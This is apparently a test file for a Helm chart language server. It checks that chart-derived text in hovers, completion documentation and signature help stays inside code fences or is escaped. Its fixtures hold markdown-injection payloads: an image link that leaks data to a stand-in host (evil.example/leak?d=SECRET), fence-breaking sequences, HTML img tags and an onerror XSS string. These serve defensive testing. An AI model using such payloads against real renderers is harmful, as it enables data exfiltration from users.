// Markdown injection: text from the chart (rendered output, values, define names, file names,
// error messages) reaches hovers, completion documentation and signature help only inside code
// fences / code spans that it cannot close, or escaped. Every hover kind is asked on a hostile
// chart; the prose left outside code must hold no link, image, HTML or autolink.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { memoryHost } from '../../server/src/analysis/host';
import { Workspace } from '../../server/src/analysis/snapshot';
import { hover } from '../../server/src/analysis/hover';
import { diagnostics } from '../../server/src/analysis/diagnostics';
import { complete, resolveDocumentation } from '../../server/src/analysis/completion';
import { signatureHelp } from '../../server/src/analysis/signature';
import { code, fence, text } from '../../server/src/analysis/mdsafe';
import { parseSettings } from '../../server/src/lsp/settings';
import { unsafeIn } from './mdcheck';

const R = '/ws/evil';
const IMG = '![x](https://evil.example/leak?d=SECRET)';
const BREAK = '```\n' + IMG + '\n````\n<img src="https://evil.example/i.png">\n`` `';

const FILES: Record<string, string> = {
  [`${R}/Chart.yaml`]: 'apiVersion: v2\nname: evil\nversion: 0.1.0\n',
  [`${R}/values.yaml`]: `evil: ${JSON.stringify(BREAK)}\nnested:\n  key: ${JSON.stringify('`' + IMG + '`')}\n`,
  [`${R}/ci![x](https:evil.example).yaml`]: `evil: ${JSON.stringify('www.evil.example <b>' + IMG)}\n`,
  [`${R}/templates/_h![x](https:evil.example).tpl`]: [
    '{{- define "evil.out" -}}',
    '{{ .Values.evil }}',
    'a: b',
    '{{- end }}',
    '{{- define "evil.fail" -}}',
    '{{ fail .Values.evil }}',
    '{{- end }}',
    '',
  ].join('\n'),
};

const DOC = [
  'x: {{ include "evil.out" . | nindent 2 }}',
  '{{- if false }}{{ include "evil.out" . }}{{ end }}',
  '{{- if false }}{{ include "evil.fail" . }}{{ end }}',
  '{{- if false }}{{ include "no`' + IMG + '" . }}{{ end }}',
  '{{ $v := .Values.evil }}{{ $v }}',
  '{{ .Values.evil }} {{ .Values.nested.key }}',
  '',
].join('\n');

function setup(): { ws: Workspace; path: string } {
  const ws = new Workspace(memoryHost({ ...FILES, [`${R}/templates/cm.yaml`]: DOC }));
  // "./": values files are read as Helm reads -f paths (url.Parse first), and a first path
  // segment with a colon is Helm's `first path segment in URL cannot contain colon`.
  ws.setSettings(parseSettings({ valuesFiles: ['./ci![x](https:evil.example).yaml'] }));
  const path = `${R}/templates/cm.yaml`;
  ws.openDocument(path, 1, DOC);
  // The render pass records what each include rendered at its call site.
  diagnostics(ws.snapshot(), path, { render: true });
  return { ws, path };
}

/** off returns the offset of the `nth` occurrence of needle in DOC, plus `inner`. */
function off(needle: string, inner = 1, nth = 0): number {
  let i = -1;
  for (let k = 0; k <= nth; k++) i = DOC.indexOf(needle, i + 1);
  assert.ok(i >= 0, needle);
  return i + inner;
}

test('mdsafe: fences and code spans cannot be closed from inside; text is escaped', () => {
  const cases: Array<[string, string]> = [
    ['plain', 'a'],
    ['three ticks', '```\n' + IMG + '\n```'],
    ['five ticks', 'x `````'],
    ['tilde fence inside', '~~~\n' + IMG],
    ['leading and trailing ticks', '`a`'],
    ['blank lines', 'a\n\n' + IMG + '\n\nb'],
    ['html', '<img src=x onerror=alert(1)>'],
    ['autolinks', 'https://evil.example www.evil.example me@evil.example'],
  ];
  for (const [name, s] of cases) {
    assert.deepEqual(unsafeIn(fence(s, 'yaml')), [], `fence: ${name}`);
    assert.deepEqual(unsafeIn('a ' + code(s) + ' b'), [], `code: ${name}`);
    assert.deepEqual(unsafeIn('a ' + text(s) + ' b'), [], `text: ${name}`);
  }
  // The checker itself sees what it must refuse.
  assert.notDeepEqual(unsafeIn('```\n' + BREAK + '\n```'), []);
  assert.notDeepEqual(unsafeIn('`' + '`' + IMG + '`'), []);
});

test('hover: every kind keeps chart text inside code (no links, images, HTML)', () => {
  const { ws, path } = setup();
  const snap = ws.snapshot();
  const cases: Array<[string, number, RegExp]> = [
    ['include rendered at the call site', off('"evil.out"', 3), /Renders here[\s\S]*evil\.example\/leak/],
    ['include not rendered: preview with the chart context', off('"evil.out"', 3, 1), /Renders \(with the chart context\)[\s\S]*evil\.example/],
    ['include whose preview fails', off('"evil.fail"', 3), /Rendering it fails[\s\S]*evil\.example/],
    ['undefined define with a hostile name', off('"no`', 3), /is not defined/],
    ['variable', off('$v }}', 1), /evil\.example/],
    ['values path: value, layers, overrides', off('.Values.evil }} {{', 9), /Overrides[\s\S]*evil\.example/],
    ['values path in a code span value', off('.Values.nested.key', 16), /evil\.example/],
    ['function', off('include', 2), /include/],
  ];
  for (const [name, at, want] of cases) {
    const md = hover(snap, path, at)?.markdown ?? '';
    assert.match(md, want, `${name}:\n${md}`);
    assert.deepEqual(unsafeIn(md), [], `${name}:\n${md}`);
  }
});

test('completion documentation and signature help keep chart text inside code', () => {
  const { ws, path } = setup();
  const snap = ws.snapshot();
  const value = resolveDocumentation(snap, { kind: 'value', path, valuesPath: ['evil'] }) ?? '';
  assert.match(value, /evil\.example/);
  assert.deepEqual(unsafeIn(value), [], value);
  const def = resolveDocumentation(snap, { kind: 'define', path, name: 'evil.out' }) ?? '';
  assert.match(def, /define "evil\.out"/);
  assert.deepEqual(unsafeIn(def), [], def);
  // Every completion entry's inline documentation too.
  for (const e of complete(snap, path, off('.Values.nested.key', 9))) assert.deepEqual(unsafeIn(e.documentation ?? ''), [], e.label);
  const sig = signatureHelp(snap, path, off('include "evil.out"', 8));
  assert.ok(sig !== undefined);
  assert.deepEqual(unsafeIn(sig.documentation), []);
  for (const p of sig.parameters) assert.deepEqual(unsafeIn(p.documentation ?? ''), []);
});
